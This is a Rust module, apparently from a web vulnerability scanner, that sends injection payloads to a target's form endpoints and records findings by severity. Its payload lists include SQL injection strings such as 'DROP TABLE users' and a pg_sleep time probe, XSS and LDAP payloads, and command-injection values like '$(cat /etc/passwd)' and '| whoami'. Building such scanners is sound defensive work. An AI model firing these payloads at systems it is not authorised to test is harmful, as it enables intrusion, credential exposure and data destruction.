// src/core/scanner/injection_scanner.rs

use crate::core::models::{Observation, Severity};
use crate::core::scanner::target_url;
use crate::core::session::ScanSession;
use serde_json::json;
use std::time::Instant;
use tracing::{debug, info};

const PROBE: &str = "injection";

static INPUT_ENDPOINTS: &[&str] = &["/api/contact", "/api/projects", "/admin/login", "/api/search"];

static SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "' UNION SELECT @@version --",
    "' AND (SELECT pg_sleep(5)) --",
    "admin'/**/OR/**/1=1--",
    "' UNION SELECT NULL,NULL,NULL --",
];

// Fragments of database error chatter that should never reach a client.
static SQL_ERROR_INDICATORS: &[&str] = &[
    "sql syntax",
    "mysql",
    "postgresql",
    "sqlite",
    "syntax error",
    "query failed",
    "database error",
    "constraint",
];

static XSS_PAYLOADS: &[&str] = &[
    r#"<script>alert("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    r#"<svg onload=alert("XSS")>"#,
    r#""><script>alert("XSS")</script>"#,
    r#"<input onfocus=alert("XSS") autofocus>"#,
];

static COMMAND_PAYLOADS: &[&str] = &[
    "; ls",
    "| whoami",
    "`id`",
    "$(cat /etc/passwd)",
    "&& echo vulnerable",
];

static COMMAND_INDICATORS: &[&str] =
    &["root:x:", "usr/bin", "uid=", "gid=", "groups=", "vulnerable"];

static LDAP_PAYLOADS: &[&str] = &["*", "*)(&", "*)(|(password=*))", "admin)(&(password=*))"];

static LDAP_INDICATORS: &[&str] = &["ldap", "distinguished name", "invalid dn"];

// Seconds of response delay that marks a time-based payload as having
// executed on the database.
const TIME_BASED_THRESHOLD_SECS: f64 = 4.0;

/// Fans one payload out across the fields a typical form exposes.
fn payload_body(payload: &serde_json::Value) -> serde_json::Value {
    json!({
        "email": payload,
        "name": payload,
        "message": payload,
        "search": payload,
        "id": payload,
    })
}

/// Runs the injection battery: SQL (error- and time-based), NoSQL
/// operators, reflected and stored XSS, command, and LDAP payloads.
pub async fn run_injection_scan(client: &reqwest::Client, session: &ScanSession) {
    info!(target = %session.target(), "Starting injection scan.");

    probe_sql_injection(client, session).await;
    probe_nosql_injection(client, session).await;
    probe_xss(client, session).await;
    probe_command_injection(client, session).await;
    probe_ldap_injection(client, session).await;

    info!("Injection scan finished.");
}

async fn probe_sql_injection(client: &reqwest::Client, session: &ScanSession) {
    for endpoint in INPUT_ENDPOINTS {
        for payload in SQL_PAYLOADS {
            let url = target_url(session, endpoint);
            let started = Instant::now();
            let response = match client
                .post(&url)
                .json(&payload_body(&json!(payload)))
                .send()
                .await
            {
                Ok(response) => response,
                Err(e) => {
                    debug!(%url, error = %e, "Request failed, skipping.");
                    continue;
                }
            };
            let elapsed = started.elapsed().as_secs_f64();

            let body = response.text().await.unwrap_or_default().to_lowercase();
            if let Some(indicator) = SQL_ERROR_INDICATORS
                .iter()
                .find(|indicator| body.contains(**indicator))
            {
                session.record(
                    Severity::High,
                    format!("SQL injection error detected: {}", endpoint),
                    Observation::new(
                        PROBE,
                        endpoint,
                        json!({ "payload": payload, "error": indicator }),
                    ),
                );
            }

            if payload.contains("pg_sleep") && elapsed > TIME_BASED_THRESHOLD_SECS {
                session.record(
                    Severity::Critical,
                    format!("Time-based SQL injection: {}", endpoint),
                    Observation::new(
                        PROBE,
                        endpoint,
                        json!({ "payload": payload, "delay": elapsed }),
                    ),
                );
            }
        }
    }
}

async fn probe_nosql_injection(client: &reqwest::Client, session: &ScanSession) {
    let operator_payloads = [
        json!({ "$ne": "" }),
        json!({ "$regex": ".*" }),
        json!({ "$exists": true }),
        json!({ "$gt": "" }),
    ];

    for endpoint in INPUT_ENDPOINTS {
        for payload in &operator_payloads {
            let url = target_url(session, endpoint);
            let response = match client
                .post(&url)
                .json(&json!({ "email": payload, "password": payload, "name": payload }))
                .send()
                .await
            {
                Ok(response) => response,
                Err(e) => {
                    debug!(%url, error = %e, "Request failed, skipping.");
                    continue;
                }
            };

            // Operator payloads should bounce off input validation; anything
            // else suggests they were interpreted.
            let status = response.status().as_u16();
            if !matches!(status, 400 | 401 | 422) {
                session.record(
                    Severity::Medium,
                    format!("NoSQL injection potential: {}", endpoint),
                    Observation::new(
                        PROBE,
                        endpoint,
                        json!({ "payload": payload.clone(), "status": status }),
                    ),
                );
            }
        }
    }
}

async fn probe_xss(client: &reqwest::Client, session: &ScanSession) {
    for endpoint in INPUT_ENDPOINTS {
        for payload in XSS_PAYLOADS {
            let url = target_url(session, endpoint);
            let response = match client
                .post(&url)
                .json(&json!({
                    "name": payload,
                    "title": payload,
                    "description": payload,
                    "message": payload,
                }))
                .send()
                .await
            {
                Ok(response) => response,
                Err(e) => {
                    debug!(%url, error = %e, "Request failed, skipping.");
                    continue;
                }
            };

            let status = response.status().as_u16();
            let body = response.text().await.unwrap_or_default();
            if body.contains(payload) {
                session.record(
                    Severity::High,
                    format!("Reflected XSS vulnerability: {}", endpoint),
                    Observation::new(PROBE, endpoint, json!({ "payload": payload })),
                );
            }

            // If the write was accepted, re-read the endpoint to see whether
            // the payload persisted.
            if status == 200 || status == 201 {
                if let Ok(read_back) = client.get(&url).send().await {
                    let stored = read_back.text().await.unwrap_or_default();
                    if stored.contains(payload) {
                        session.record(
                            Severity::Critical,
                            format!("Stored XSS vulnerability: {}", endpoint),
                            Observation::new(PROBE, endpoint, json!({ "payload": payload })),
                        );
                    }
                }
            }
        }
    }
}

async fn probe_command_injection(client: &reqwest::Client, session: &ScanSession) {
    for endpoint in ["/api/contact", "/api/upload", "/admin/settings"] {
        for payload in COMMAND_PAYLOADS {
            let url = target_url(session, endpoint);
            let response = match client
                .post(&url)
                .json(&json!({ "filename": payload, "path": payload, "name": payload }))
                .send()
                .await
            {
                Ok(response) => response,
                Err(e) => {
                    debug!(%url, error = %e, "Request failed, skipping.");
                    continue;
                }
            };

            let body = response.text().await.unwrap_or_default();
            if let Some(indicator) = COMMAND_INDICATORS
                .iter()
                .find(|indicator| body.contains(**indicator))
            {
                session.record(
                    Severity::Critical,
                    format!("Command injection detected: {}", endpoint),
                    Observation::new(
                        PROBE,
                        endpoint,
                        json!({ "payload": payload, "output": indicator }),
                    ),
                );
            }
        }
    }
}

async fn probe_ldap_injection(client: &reqwest::Client, session: &ScanSession) {
    for endpoint in ["/api/auth", "/admin/login", "/api/users"] {
        for payload in LDAP_PAYLOADS {
            let url = target_url(session, endpoint);
            let response = match client
                .post(&url)
                .json(&json!({ "username": payload, "email": payload, "filter": payload }))
                .send()
                .await
            {
                Ok(response) => response,
                Err(e) => {
                    debug!(%url, error = %e, "Request failed, skipping.");
                    continue;
                }
            };

            let body = response.text().await.unwrap_or_default().to_lowercase();
            if LDAP_INDICATORS.iter().any(|indicator| body.contains(indicator)) {
                session.record(
                    Severity::Medium,
                    format!("LDAP injection potential: {}", endpoint),
                    Observation::new(PROBE, endpoint, json!({ "payload": payload })),
                );
            }
        }
    }
}
